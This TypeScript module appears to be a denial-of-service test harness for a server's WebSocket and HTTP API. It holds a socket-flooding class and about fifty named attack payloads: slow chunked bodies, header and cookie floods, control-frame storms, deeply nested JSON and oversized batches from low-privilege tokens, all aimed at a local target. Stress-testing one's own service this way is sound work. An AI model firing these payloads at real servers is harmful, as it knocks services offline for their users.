/**
 * What a stranger, or a user without permissions, can send to hold up everybody else: each attack fills some
 * sockets as fast as the server takes it, until it is stopped. Written below the WebSocket, so that an attack costs
 * less than what it asks for.
 */
import { connect } from 'node:net';
import type { Socket } from 'node:net';

export interface Target {
  readonly url: string;
  /** Of a user without permissions who has many tokens. */
  readonly noneToken: string;
  /** Of a user who may read. */
  readonly readToken: string;
}

export type Attack = (target: Target) => Attackers;

const KIB = 1024;
const MIB = 1024 * KIB;

/** From a connection that was ended to the next: the kernel lets in those who wait one after another, on a slow machine some hundred a second. */
const AGAIN_MS = 500;

/** Sockets that attack. */
export class Attackers {
  readonly #sockets = new Set<Socket>();
  #isStopped = false;

  /** Sends `head`, then `data` again and again; begins anew where the server ends it. */
  start(url: string, count: number, head: string | Buffer, data: string | Buffer = ''): this {
    for (let i = 0; i < count; i++) this.#open(url, i, head, data);
    return this;
  }

  stop(): void {
    this.#isStopped = true;
    for (const socket of this.#sockets) socket.destroy();
  }

  #open(url: string, i: number, head: string | Buffer, data: string | Buffer): void {
    if (this.#isStopped) return;
    const { hostname, port } = new URL(url);
    // Linux answers on all of 127.0.0.0/8: strangers have many addresses.
    const socket = connect({
      host: hostname,
      port: Number(port),
      localAddress: `127.0.2.${(i % 40) + 1}`,
    });
    this.#sockets.add(socket);
    socket.on('error', () => undefined);
    socket.resume();
    socket.once('close', () => {
      this.#sockets.delete(socket);
      setTimeout(() => this.#open(url, i, head, data), AGAIN_MS);
    });
    socket.write(head);
    if (data.length > 0) fill(socket, data);
  }
}

function fill(socket: Socket, data: string | Buffer): void {
  while (!socket.destroyed && socket.write(data));
  if (!socket.destroyed) socket.once('drain', () => fill(socket, data));
}

/** A masked frame (RFC 6455, section 5.2), the mask all zeros. */
function frame(payload: string | Buffer, head = 0x81): Buffer {
  const bytes = Buffer.from(payload);
  if (bytes.length < 126) {
    return Buffer.concat([Buffer.from([head, 0x80 | bytes.length, 0, 0, 0, 0]), bytes]);
  }
  const start = Buffer.alloc(14);
  start.writeUInt16BE((head << 8) | 0xff);
  start.writeBigUInt64BE(BigInt(bytes.length), 2);
  return Buffer.concat([start, bytes]);
}

function times(bytes: Buffer, count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => bytes));
}

const upgrade = (more = ''): string =>
  `GET /api/ HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n${more}\r\n`;
const call = (method: string, params: object = {}, id: unknown = 1): string =>
  JSON.stringify({ jsonrpc: '2.0', id, method, params });
const batch = (one: string): string => `[${Array.from({ length: 20 }, () => one).join(',')}]`;

function names(count: number): Record<string, number> {
  return Object.fromEntries(Array.from({ length: count }, (_, i) => [`name${i}`, 0]));
}
function nested(depth: number, inner: unknown): unknown {
  return depth === 0 ? inner : [nested(depth - 1, inner)];
}

/** Of WebSockets that nobody signs in on. */
const stranger =
  (data: Buffer, sockets = 30): Attack =>
  ({ url }) =>
    new Attackers().start(url, sockets, upgrade(), data);
const http =
  (head: string, data: string | Buffer = head, sockets = 30): Attack =>
  ({ url }) =>
    new Attackers().start(url, sockets, head, data);
const signedIn =
  (token: 'noneToken' | 'readToken', data: Buffer, sockets = 10): Attack =>
  (target) => {
    const signIn = frame(call('session.signIn', { token: target[token] }));
    return new Attackers().start(
      target.url,
      sockets,
      Buffer.concat([Buffer.from(upgrade()), signIn]),
      data,
    );
  };

const CHUNKED = 'Host: localhost\r\nTransfer-Encoding: chunked\r\n\r\n';
const ONE_BYTE_PIECES = '1\r\na\r\n'.repeat(10_000);
const get = (path: string, more = ''): string =>
  `GET ${path} HTTP/1.1\r\nHost: localhost\r\n${more}\r\n`;
const escapes = (bytes: number): string => '"\\\u0001é\u{1F600}'.repeat(bytes / 11);

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'pieces of one byte for /healthz': http(`POST /healthz HTTP/1.1\r\n${CHUNKED}`, ONE_BYTE_PIECES),
  'pieces of one byte for an unknown transfer': http(
    `POST /api/${'x'.repeat(43)} HTTP/1.1\r\n${CHUNKED}`,
    ONE_BYTE_PIECES,
  ),
  'pieces of one byte for the key management': http(
    `POST /rest/secrets/1.0/keys/rotate HTTP/1.1\r\n${CHUNKED}`,
    ONE_BYTE_PIECES,
  ),
  'requests without waiting for answers': http(get('/healthz').repeat(500)),
  'requests without a Host': http('GET / HTTP/1.1\r\n\r\n'.repeat(3600), undefined, 60),
  'requests that expect what nobody knows': http(
    get('/', 'Expect: a\r\n').repeat(1500),
    undefined,
    60,
  ),
  'two thousand headers': http(get('/', 'a: b\r\n'.repeat(1900)).repeat(8), undefined, 250),
  'a long chain of proxies': http(
    get('/healthz', `Forwarded: ${';for,'.repeat(3000)}\r\n`).repeat(8),
    undefined,
    100,
  ),
  'pieces of 64 bytes for an unknown transfer': http(
    `POST /api/${'x'.repeat(43)} HTTP/1.1\r\n${CHUNKED}`,
    `40\r\n${'a'.repeat(64)}\r\n`.repeat(900),
    100,
  ),
  'long queries': http(get(`/healthz?${'a[]=%41&'.repeat(1500)}`)),
  'many headers': http(get('/', 'a: b\r\n'.repeat(900)), undefined, 10),
  'many cookies': http(
    get('/rest/secrets/1.0/keys/inactive', `Cookie: ${'a=b;'.repeat(3000)}\r\n`),
  ),
  'wrong Basic credentials': http(
    get(
      '/rest/secrets/1.0/keys/inactive',
      `Authorization: Basic ${Buffer.from(`a:${'b'.repeat(5000)}`).toString('base64')}\r\n`,
    ),
  ),
  metrics: http(get('/metrics').repeat(16)),
  'the OpenAPI document': http(get('/rest/openapi.json').repeat(16)),
  'half a request, then nothing': http(`GET / HTTP/1.1\r\nX: ${'x'.repeat(8000)}`, '', 60),
  'upgrades with a wrong token': http(
    upgrade(`Authorization: Bearer ${'x'.repeat(43)}\r\n`),
    times(frame('', 0x88), 10_000),
    40,
  ),
  'upgrades, and a Close at once': http(upgrade(), times(frame('', 0x88), 10_000), 40),
  pongs: stranger(times(frame('', 0x8a), 10_000)),
  pings: stranger(times(frame('', 0x89), 10_000)),
  'pings of 125 bytes': stranger(times(frame('x'.repeat(125), 0x89), 1000)),
  'empty pieces of a message': stranger(
    Buffer.concat([frame('', 0x01), times(frame('', 0x00), 10_000)]),
  ),
  'compressed frames': stranger(times(frame('x', 0xc1), 10_000)),
  'empty messages': stranger(times(frame(''), 10_000)),
  'numbers for calls': stranger(times(frame('1'), 10_000)),
  'wrong tokens': stranger(times(frame(call('session.signIn', { token: 'x'.repeat(43) })), 500)),
  'wrong passwords': stranger(
    times(frame(call('session.signIn', { email: 'admin@example.org', password: 'wrong' })), 500),
  ),
  'names of 60 000 letters': stranger(
    times(
      frame(call('session.signIn', { email: 'ﬀ'.repeat(20_000), password: 'é'.repeat(1000) })),
      10,
    ),
  ),
  'the document of the methods in batches': stranger(times(frame(batch(call('rpc.discover'))), 20)),
  'a thousand values in batches': stranger(
    times(frame(batch(call('session.getUser', names(45)))), 20),
  ),
  'deep messages': stranger(times(frame(JSON.stringify(nested(30, 1)).repeat(900)), 5)),
  brackets: stranger(times(frame('['.repeat(65_000)), 5)),
  'ids of 64 bits in batches': stranger(
    times(
      frame(batch(call('session.getUser')).replaceAll('"id":1', '"id":18446744073709551615')),
      20,
    ),
  ),

  'patterns of 32 000 names over many tokens': signedIn(
    'noneToken',
    frame(call('token.deleteOwn', { pattern: names(32_000) })),
  ),
  'patterns of objects in arrays over many tokens': signedIn(
    'noneToken',
    frame(
      call('token.deleteOwn', {
        pattern: { scope: { methods: Array.from({ length: 16_000 }, () => ({})) } },
      }),
    ),
  ),
  'patterns in batches': signedIn(
    'noneToken',
    times(frame(batch(call('token.deleteOwn', { pattern: names(1500) }))), 5),
  ),
  'the own tokens': signedIn('noneToken', times(frame(call('token.getAll')), 50)),
  'empty pieces of a user': signedIn(
    'noneToken',
    Buffer.concat([frame('', 0x01), times(frame('', 0x00), 900), frame('', 0x80)]),
    50,
  ),
  'numbers for calls of a user': signedIn('noneToken', times(frame('1'), 10_000), 50),
  'the largest message': signedIn(
    'noneToken',
    frame(call('session.getUser', { x: 'x'.repeat(2 * MIB - 200) })),
  ),
  'the largest message of escapes': signedIn(
    'noneToken',
    frame(call('session.getUser', { x: escapes(600 * KIB) })),
  ),
  'as many values as a message may have': signedIn(
    'noneToken',
    frame(
      call('session.getUser', {
        x: Array.from({ length: 32_000 }, (_, i) => ({ [`n${i}`]: 0 })).slice(0, 16_000),
      }),
    ),
  ),
  'as many names as a message may have': signedIn(
    'noneToken',
    frame(call('session.getUser', { x: names(32_000) })),
  ),
  'ids of 64 bits before 2 MiB': signedIn(
    'noneToken',
    frame(
      call('session.getUser', { x: '\\"id":'.repeat(100_000) }).replace(
        '"id":1',
        '"id":18446744073709551615',
      ),
    ),
  ),
  'calls that nobody may make, in batches': signedIn(
    'noneToken',
    times(frame(batch(call('encryption.rotateKeys'))), 50),
  ),
  'own preferences': signedIn(
    'noneToken',
    times(frame(call('user.set', { id: 'x', preferences: { x: 'x'.repeat(16_000) } })), 20),
  ),
  'scopes of many patterns': signedIn(
    'noneToken',
    times(
      frame(
        call('token.create', {
          scope: {
            methods: Array.from(
              { length: 200 },
              (_, i) => `${'a'.repeat(9000)}${i}.${'b'.repeat(1000)}`,
            ),
          },
        }),
      ),
      2,
    ),
  ),
  'ids of tokens that are none': signedIn(
    'noneToken',
    times(
      frame(call('token.deleteOwn', { tokens: Array.from({ length: 1000 }, (_, i) => `x${i}`) })),
      5,
    ),
  ),

  'filters of one deep path': signedIn(
    'readToken',
    frame(call('xo.getAllObjects', { filter: `${'a.'.repeat(16_000)}a:x` })),
  ),
  'filters of a hundred words': signedIn(
    'readToken',
    frame(
      call('xo.getAllObjects', {
        filter: Array.from({ length: 100 }, (_, i) => `!zzz${i}`).join(' '),
      }),
    ),
  ),
  'filters of 32 000 names': signedIn(
    'readToken',
    frame(call('xo.getAllObjects', { filter: names(32_000) })),
  ),
  'a list with a filter of a long text': signedIn(
    'readToken',
    frame(call('server.getAll', { filter: { label: 'ﬀ'.repeat(600_000) } })),
  ),
  'lists in batches': signedIn(
    'readToken',
    times(frame(batch(call('server.getAll', { filter: { label: 'x' } }))), 5),
  ),
};
